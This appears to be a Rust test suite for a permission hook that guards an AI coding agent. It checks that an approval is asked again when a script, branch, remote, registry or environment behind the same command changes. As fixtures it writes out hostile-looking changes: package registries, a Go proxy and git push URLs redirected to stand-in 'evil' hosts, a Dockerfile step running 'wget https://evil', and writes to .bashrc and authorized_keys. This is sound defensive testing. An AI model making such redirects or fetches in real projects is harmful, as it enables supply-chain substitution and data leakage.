//! A yes hangs on what the call meets: the same words with another script, branch, cluster, file or environment behind them
//! are asked again. What the call itself changed, and what this session wrote, is not.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod run;

use run::home::{Home, parts};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Command;

/// A project in which everything moderate is asked, so that a yes can be given to it.
fn project() -> Home {
    let home = Home::new().policy("[levels]\nmoderate = 'confirm_session'\n");
    let app = home.0.join("app");
    for (name, text) in [
        ("app/setup.sh", "mkdir -p out\n"),
        ("app/lib.sh", "touch a\n"),
        ("app/all.sh", ". ./lib.sh\n"),
        ("app/Makefile", "include inc.mk\nall:\n\ttouch made\n"),
        ("app/package.json", "{\"scripts\": {\"gen\": \"touch made\"}}\n"),
        ("app/q.sql", "UPDATE t SET a = 1 WHERE id = 1;\n"),
        ("app/compose.yml", "services: {}\n"),
        ("app/gen.py", "open('made', 'w').write('x')\n"),
        ("app/notes.txt", "a person's\n"),
        ("app/data", "x\n"),
        ("app/Dockerfile", "FROM alpine\n"),
        ("app/Taskfile.yml", "version: '3'\ntasks:\n  gen:\n    cmds: [touch made]\n"),
        ("app/all.sql", "\\i q.sql\n"),
        ("app/uses.py", "import part\nopen('made', 'w').write('x')\n"),
        ("app/part.py", "x = 1\n"),
        ("app/inc.mk", "X = 1\n"),
        (".env", "A=1\n"),
        (".netrc", "machine a\n"),
        (".kube/config", "current-context: dev\n"),
        (".npmrc", "registry=https://registry.npmjs.org\n"),
    ] {
        write(&home.0, name, text);
    }
    std::os::unix::fs::symlink("../.env", app.join("link")).unwrap();
    git(&app, &["init", "-q", "-b", "feature"]);
    git(&app, &["remote", "add", "origin", "https://git.example.com/ours.git"]);
    git(&app, &["add", "setup.sh"]);
    git(&app, &["commit", "-qm", "one"]);
    git(&app, &["branch", "other"]);
    home
}

fn git(dir: &Path, args: &[&str]) {
    let mut command = Command::new("git");
    command.args(["-c", "user.name=a", "-c", "user.email=a@b.c"]).args(args).current_dir(dir).env("HOME", dir);
    assert!(command.status().unwrap().success(), "{args:?}");
}

fn write(home: &Path, name: &str, text: &str) {
    let path = home.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn relink(home: &Path) {
    std::fs::remove_file(home.join("app/link")).unwrap();
    std::os::unix::fs::symlink("../.netrc", home.join("app/link")).unwrap();
}

/// A copy of oneway's own would make these losses come back: what is judged here is what holds without one.
fn keeps_nothing(home: &Home) {
    write(&home.0, ".config/oneway/policy.toml", "[undo]\nkeep = false\n");
}

fn answer(home: &Home, id: &str, call: &Value) -> String {
    let mut more = json!({ "tool_use_id": id });
    more.as_object_mut().unwrap().extend(call.as_object().unwrap().clone());
    parts(&home.send(&home.event("PreToolUse", "s1", &more))).0
}

fn ran(home: &Home, id: &str) {
    home.send(&home.event("PostToolUse", "s1", &json!({"tool_use_id": id, "tool_name": "x", "tool_input": {}})));
}

fn bash(text: &str) -> Value {
    json!({"tool_name": "Bash", "tool_input": {"command": text}})
}

fn file(tool: &str, path: &Path) -> Value {
    let input = json!({"file_path": path, "content": "x", "old_string": "a", "new_string": "b"});
    json!({ "tool_name": tool, "tool_input": input })
}

type Change = fn(&Path);

/// The same words, and what is different behind them.
const OTHER: &[(&str, Change)] = &[
    ("bash setup.sh", |home| write(home, "app/setup.sh", "mkdir -p out other\n")),
    ("bash all.sh", |home| write(home, "app/lib.sh", "touch a b\n")),
    ("make all", |home| write(home, "app/Makefile", "all:\n\ttouch made more\n")),
    ("npm run gen", |home| write(home, "app/package.json", "{\"scripts\": {\"gen\": \"touch other\"}}\n")),
    ("python3 gen.py", |home| write(home, "app/gen.py", "open('other', 'w').write('x')\n")),
    ("psql -d dev -f q.sql", |home| write(home, "app/q.sql", "UPDATE t SET a = 2 WHERE id = 1;\n")),
    ("docker compose up -d", |home| write(home, "app/compose.yml", "services: {x: {image: y}}\n")),
    ("git push origin feature", |home| {
        git(&home.join("app"), &["remote", "set-url", "origin", "https://git.example.com/theirs.git"]);
    }),
    ("git push", |home| git(&home.join("app"), &["switch", "-q", "other"])),
    ("cat link", relink),
    ("kubectl rollout restart deployment/x", |home| write(home, ".kube/config", "current-context: prod\n")),
    ("npm install left-pad", |home| write(home, ".npmrc", "registry=https://evil.example\n")),
    ("git push origin feature", |home| {
        write(home, ".gitconfig", "[url \"https://evil/\"]\n insteadOf = https://git.example.com/\n")
    }),
    ("git push origin feature", |home| {
        git(&home.join("app"), &["config", "url.https://evil/.pushInsteadOf", "https://git.example.com/"]);
    }),
    ("git push origin feature", |home| {
        git(&home.join("app"), &["config", "remote.origin.pushurl", "https://evil/x.git"])
    }),
    ("git push", |home| git(&home.join("app"), &["config", "push.default", "matching"])),
    ("git submodule update --init", |home| {
        write(home, "app/.gitmodules", "[submodule \"a\"]\n url = https://evil/a\n")
    }),
    ("docker build -t x .", |home| write(home, "app/Dockerfile", "FROM alpine\nRUN wget https://evil\n")),
    ("task gen", |home| write(home, "app/Taskfile.yml", "version: '3'\ntasks:\n  gen:\n    cmds: [rm -rf made]\n")),
    ("psql -d dev -f all.sql", |home| write(home, "app/q.sql", "UPDATE t SET a = 3 WHERE id = 1;\n")),
    ("python3 uses.py", |home| write(home, "app/part.py", "import shutil\n")),
    ("make all", |home| write(home, "app/inc.mk", "X = 2\n")),
    ("go install example.com/x@v1.0.0", |home| write(home, ".config/go/env", "GOPROXY=https://evil\n")),
    ("pip install flask", |home| write(home, ".config/pip/pip.conf", "[global]\nindex-url = https://evil\n")),
    ("frobnicate data", |home| write(home, "app/data", "y\n")),
    ("echo x > notes.txt", |home| write(home, "app/notes.txt", "more of a person's\n")),
    ("rm notes.txt", |home| write(home, "app/notes.txt", "more of a person's\n")),
];

#[test]
fn another_thing_behind_the_same_words_is_asked_again() {
    if !project().heard() {
        return;
    }
    let mut wrong = Vec::new();
    for (command, change) in OTHER {
        let home = project();
        let first = answer(&home, "t1", &bash(command));
        ran(&home, "t1");
        let same = answer(&home, "t2", &bash(command));
        change(&home.0);
        let other = answer(&home, "t3", &bash(command));
        if (first.as_str(), same.as_str(), other.as_str()) != ("ask", "", "ask") {
            wrong.push(format!("{command}: `{first}`, `{same}`, changed: `{other}`"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn another_environment_is_asked_again() {
    let home = project();
    if !home.heard() {
        return;
    }
    let call = |id: &str, host: &str| {
        let mut command = home.command(&["hook"]);
        command.env("PGHOST", host);
        let event = home.call("s1", id, "psql -d dev -c 'UPDATE t SET a = 1 WHERE id = 1'");
        parts(&serde_json::from_str(&run::run(command, event.to_string().as_bytes()).stdout).unwrap()).0
    };
    assert_eq!(call("t1", "dev"), "ask");
    ran(&home, "t1");
    assert_eq!(call("t2", "dev"), "");
    assert_eq!(call("t3", "prod"), "ask");
}

/// What the approved call itself changed, and commits that go on, do not close a yes.
#[test]
fn what_the_call_itself_changes_is_not_asked_again() {
    if !project().heard() {
        return;
    }
    let rows: [(&str, Change); 4] = [
        ("sed -i s/a/b/ notes.txt", |home| write(home, "app/notes.txt", "b person's\n")),
        ("echo x > notes.txt", |home| write(home, "app/notes.txt", "x\n")),
        ("rm notes.txt", |home| std::fs::remove_file(home.join("app/notes.txt")).unwrap()),
        ("git push origin feature", |home| {
            git(&home.join("app"), &["commit", "-q", "--allow-empty", "-m", "two"]);
        }),
    ];
    for (command, runs) in rows {
        let home = project();
        assert_eq!(answer(&home, "t1", &bash(command)), "ask", "{command}");
        runs(&home.0);
        ran(&home, "t1");
        assert_eq!(answer(&home, "t2", &bash(command)), "", "{command}");
    }
}

/// What this session wrote by the host's own tool is lost to nobody: its calls hold it. A person's word in it ends that.
#[test]
fn what_this_session_wrote_is_its_own() {
    let home = Home::new();
    if !home.heard() {
        return;
    }
    keeps_nothing(&home);
    let (made, notes) = (home.0.join("app/made.py"), home.0.join("app/notes.txt"));
    std::fs::write(&notes, "a person's").unwrap();
    for (path, id, rm, after) in [(&made, "t1", "rm made.py", ""), (&notes, "t2", "rm notes.txt", "ask")] {
        assert_eq!(answer(&home, id, &file("Write", path)), "");
        std::fs::write(path, "x").unwrap();
        ran(&home, id);
        assert_eq!(answer(&home, "t3", &bash(rm)), after, "{rm}");
    }
    // Another session knows nothing of it.
    let other = home.event("PreToolUse", "s2", &bash("rm made.py"));
    assert_eq!(parts(&home.send(&other)).0, "ask");
    std::fs::write(&made, "x, and a line of a person's").unwrap();
    assert_eq!(answer(&home, "t5", &bash("rm made.py")), "ask");
    // A file of a person's that takes its name is not the session's.
    std::fs::rename(&notes, &made).unwrap();
    assert_eq!(answer(&home, "t6", &bash("rm made.py")), "ask");
}

/// Headless, and in a subagent, the host keeps nothing of what its file tools replace.
#[test]
fn where_the_host_keeps_nothing_a_write_over_work_is_no_silent_one() {
    let home = Home::new();
    keeps_nothing(&home);
    let app = home.0.join("app");
    write(&home.0, "app/kept.txt", "a\n");
    git(&app, &["init", "-q"]);
    git(&app, &["add", "kept.txt"]);
    git(&app, &["commit", "-qm", "one"]);
    write(&home.0, "app/notes.txt", "a person's\n");
    let say = |alone: bool, agent: bool, tool: &str, name: &str| {
        let mut event = home.event("PreToolUse", "s1", &file(tool, &app.join(name)));
        event["permission_mode"] = json!("bypassPermissions");
        if agent {
            event["agent_id"] = json!("a1");
        }
        let mut command = home.command(&["hook"]);
        command.env("CLAUDE_CODE_ENTRYPOINT", if alone { "sdk-cli" } else { "cli" });
        parts(&serde_json::from_str(&run::run(command, event.to_string().as_bytes()).stdout).unwrap()).0
    };
    for (alone, agent, tool, name, expect) in [
        (false, false, "Write", "notes.txt", ""),
        (true, false, "Write", "notes.txt", "deny"),
        (false, true, "Write", "notes.txt", "ask"),
        (true, false, "Edit", "notes.txt", ""),
        (true, false, "Write", "new.txt", ""),
        (true, false, "Write", "kept.txt", ""),
    ] {
        assert_eq!(say(alone, agent, tool, name), expect, "{alone} {agent} {tool} {name}");
    }
}

/// The host's dialogs for its file tools show no reason: what is dangerous waits for an approval instead.
#[test]
fn what_a_dialog_would_not_explain_is_denied() {
    let home = Home::new();
    for (name, expect) in [(".bashrc", "deny"), (".ssh/authorized_keys", "deny"), ("app/new.txt", "")] {
        let event = home.event("PreToolUse", "s1", &file("Write", &home.0.join(name)));
        let (decision, reason, message) = parts(&home.send(&event));
        assert_eq!(decision, expect, "{name}: {reason}");
        assert_eq!(message.contains("oneway approve"), expect == "deny", "{name}: {message}");
    }
}

#[test]
fn a_policy_can_switch_approvals_off() {
    for (limit, mode, waits) in [
        ("always", "default", true),
        ("always", "bypassPermissions", true),
        ("attended", "default", true),
        ("attended", "acceptEdits", true),
        ("attended", "bypassPermissions", false),
        ("attended", "auto", false),
        ("never", "default", false),
        ("nonsense", "default", false),
    ] {
        let home = Home::new().policy(&format!("[limits]\napprovals = \"{limit}\"\n"));
        let mut event = home.call("s1", "t1", "git push --force origin main");
        event["permission_mode"] = json!(mode);
        let (decision, reason, message) = parts(&home.send(&event));
        assert_eq!(decision, "deny", "{limit} {mode}");
        assert_eq!(message.contains("oneway approve"), waits, "{limit} {mode}: {message}");
        assert_eq!(reason.contains("Nobody can approve this from here"), !waits, "{limit} {mode}: {reason}");
    }
    // A project may only tighten.
    let home = Home::new().policy("[limits]\napprovals = \"never\"\n");
    write(&home.0, "app/.oneway.toml", "[limits]\napprovals = \"always\"\n");
    assert!(!home.bash("s1", "t1", "git push --force origin main").2.contains("oneway approve"));
    write(&home.0, ".config/oneway/policy.toml", "");
    write(&home.0, "app/.oneway.toml", "[limits]\napprovals = \"never\"\n");
    assert!(!home.bash("s1", "t1", "git push --force origin main").2.contains("oneway approve"));
}
